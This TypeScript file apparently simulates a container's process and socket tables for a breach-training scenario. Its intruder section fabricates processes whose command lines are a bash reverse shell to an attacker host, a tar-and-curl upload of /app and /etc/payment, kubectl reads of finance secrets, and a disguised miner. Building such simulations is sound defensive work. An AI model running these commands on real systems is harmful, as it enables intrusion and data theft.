import { hash32 } from '../random.ts';
import type { BreachView } from '../scenarios/breach.ts';
import type { ProfileName } from './profiles.ts';
import type { Process, Socket } from './scene.ts';

type Start = readonly [exe: string, argv: readonly string[], parent: number, rssMib: number];

const MAIN: Record<ProfileName, readonly Start[]> = {
  node: [['/usr/local/bin/node', ['node', '/app/server.js'], 0, 172]],
  jvm: [['/opt/java/openjdk/bin/java', ['java', '-XX:MaxRAMPercentage=75', '-jar', '/app/service.jar'], 0, 310]],
  go: [['/bin/server', ['/bin/server', '--config.file=/etc/server/config.yml'], 0, 140]],
  python: [
    ['/usr/local/bin/python3.13', ['python3', '-m', 'service'], 0, 90],
    ['/usr/local/bin/python3.13', ['python3', '-m', 'service', '--worker'], 1, 64],
  ],
  nginx: [
    ['/usr/sbin/nginx', ['nginx: master process nginx -g daemon off;'], 0, 9],
    ['/usr/sbin/nginx', ['nginx: worker process'], 1, 22],
    ['/usr/sbin/nginx', ['nginx: worker process'], 1, 22],
  ],
  postgres: [
    ['/usr/lib/postgresql/18/bin/postgres', ['postgres'], 0, 120],
    ['/usr/lib/postgresql/18/bin/postgres', ['postgres: checkpointer '], 1, 40],
    ['/usr/lib/postgresql/18/bin/postgres', ['postgres: walwriter '], 1, 22],
  ],
  redis: [['/usr/local/bin/redis-server', ['redis-server *:6379'], 0, 38]],
  imgproxy: [['/usr/local/bin/imgproxy', ['imgproxy'], 0, 80]],
  runner: [
    ['/usr/bin/bash', ['/bin/bash', '/home/runner/run.sh'], 0, 4],
    ['/home/runner/bin/Runner.Listener', ['/home/runner/bin/Runner.Listener', 'run'], 1, 190],
  ],
  agent: [['/usr/bin/agent', ['/usr/bin/agent', '--config-dir=/etc/agent'], 0, 170]],
  distroless: [['/app/main', ['/app/main', '--v=2'], 0, 50]],
  job: [['/usr/local/bin/python3.13', ['python3', '/app/job.py'], 0, 66]],
  busybox: [['/bin/busybox', ['sleep', 'infinity'], 0, 1]],
};

const PORTS: Partial<Record<ProfileName, number>> = { postgres: 5432, redis: 6379, imgproxy: 8080 };

export interface Situation {
  profile: ProfileName;
  podUid: string;
  container: string;
  uid: number;
  podIp: string;
  startedAt: number;
  now: number;
  /** the container's own declared ports */
  ports: readonly number[];
  command: readonly string[];
  breach: BreachView;
  /** whether packets come through to an address now: data waits in the socket when they do not */
  reached(ip: string, port: number): boolean;
  attacker: { ip: string; shellPort: number; dropPort: number };
}

/** The process table at this moment: what the image runs, and what an intruder added. */
export function processesOf(s: Situation): Process[] {
  const ageSeconds = Math.max(0, (s.now - s.startedAt) / 1000);
  const main =
    s.profile === 'busybox' && s.command.length > 0 ? [['/bin/busybox', s.command, 0, 1] as const] : MAIN[s.profile];
  const own = main.map(
    ([exe, argv, parent, mib], i): Process => ({
      pid: i === 0 ? 1 : 7 + i * 6,
      ppid: parent,
      uid: s.uid,
      argv,
      exe,
      cwd: s.profile === 'busybox' ? '/' : '/app',
      startedAt: s.startedAt + i * 300,
      cpuSeconds: ageSeconds * (i === 0 ? 0.03 : 0.008),
      rssKib: mib * 1024,
      tty: false,
    }),
  );
  return [...own, ...intruders(s)];
}

/** pids as the kernel gave them: after days of health checks they are far from 1. */
function intruders(s: Situation): Process[] {
  const base = 20_000 + (hash32(s.podUid) % 9000);
  const at = (beat: Parameters<BreachView['at']>[0]) => s.breach.at(beat, s.podUid, s.container);
  const made: Process[] = [];
  const add = (
    pid: number,
    ppid: number,
    argv: readonly string[],
    exe: string,
    startedAt: number,
    cpuSeconds: number,
    rssKib: number,
    cwd = '/app',
  ) => made.push({ pid, ppid, uid: s.uid, argv, exe, cwd, startedAt, cpuSeconds, rssKib, tty: false });
  const shell = at('shell');
  if (shell !== null) {
    add(
      base,
      1,
      ['/bin/sh', '-c', `bash -i >& /dev/tcp/${s.attacker.ip}/${s.attacker.shellPort} 0>&1`],
      '/usr/bin/dash',
      shell,
      0.01,
      1600,
    );
    add(base + 1, base, ['bash', '-i'], '/usr/bin/bash', shell, 0.4, 3900);
  }
  const enumeration = at('enumeration');
  if (enumeration !== null)
    add(
      base + 19,
      base + 1,
      ['/tmp/.cache/kubectl', 'get', 'secrets', '-n', 'finance', '-o', 'yaml', '--watch'],
      '/tmp/.cache/kubectl',
      enumeration,
      2.1,
      41_000,
      '/tmp/.cache',
    );
  const drop = at('exfiltration');
  if (drop !== null) {
    const seconds = Math.max(0, (s.now - drop) / 1000);
    add(
      base + 64,
      base + 1,
      ['sh', '-c', `tar cz /app /etc/payment | curl -sk -T - https://${s.attacker.ip}:${s.attacker.dropPort}/up`],
      '/usr/bin/dash',
      drop,
      0,
      1600,
    );
    add(
      base + 66,
      base + 64,
      ['curl', '-sk', '-T', '-', `https://${s.attacker.ip}:${s.attacker.dropPort}/up`],
      '/usr/bin/curl',
      drop,
      s.reached(s.attacker.ip, s.attacker.dropPort) ? seconds * 0.22 : 1,
      9800,
    );
    add(base + 67, base + 1, ['./kworkerd'], '/dev/shm/kworkerd', drop, seconds * 0.08, 5200, '/dev/shm');
  }
  const mining = at('miner');
  if (mining !== null)
    add(
      base + 5,
      1,
      ['/tmp/.x/kdevtmpfsi', '-o', 'pool.minexmr.example:3333', '-u', 'drill', '-t', '2'],
      '/tmp/.x/kdevtmpfsi',
      mining,
      Math.max(0, (s.now - mining) / 1000) * 1.85,
      22_000,
      '/tmp/.x',
    );
  return made;
}

/** Sockets at this moment. A flow that a policy cut stays in the kernel's table with bytes it cannot get rid of. */
export function socketsOf(s: Situation, processes: readonly Process[]): Socket[] {
  const sockets: Socket[] = [];
  const inode = () => 4_000_000 + (hash32(s.podUid) % 900_000) + sockets.length;
  const add = (socket: Omit<Socket, 'inode' | 'uid' | 'protocol'>) =>
    sockets.push({ ...socket, protocol: 'tcp', inode: inode(), uid: s.uid });
  const flow = (pid: number, port: number, remote: readonly [string, number], unsent: number) =>
    add({
      local: [s.podIp, port],
      remote,
      state: 'ESTAB',
      pid,
      sendQueue: s.reached(...remote) ? 0 : unsent,
    });
  const listens = s.ports.length > 0 ? s.ports : PORTS[s.profile] === undefined ? [] : [PORTS[s.profile] ?? 0];
  for (const port of listens)
    add({ local: ['0.0.0.0', port], remote: ['0.0.0.0', 0], state: 'LISTEN', pid: 1, sendQueue: 0 });
  if (s.profile === 'node' || s.profile === 'jvm' || s.profile === 'python')
    flow(1, 38_000 + (hash32(s.podUid) % 20_000), ['10.43.25.73', 5432], 74);
  const find = (exe: RegExp) => processes.find((p) => exe.test(p.argv.join(' ')));
  const shell = find(/^bash -i$/);
  if (shell) flow(shell.pid, 47_312, [s.attacker.ip, s.attacker.shellPort], 212);
  const kubectl = find(/\.cache\/kubectl/);
  if (kubectl) flow(kubectl.pid, 51_874, ['10.43.0.1', 443], 17);
  const drop = find(/^curl -sk -T/);
  if (drop) flow(drop.pid, 54_440, [s.attacker.ip, s.attacker.dropPort], 262_144);
  const miner = find(/kdevtmpfsi/);
  if (miner) flow(miner.pid, 40_022, ['198.51.100.77', 3333], 160);
  return sockets;
}
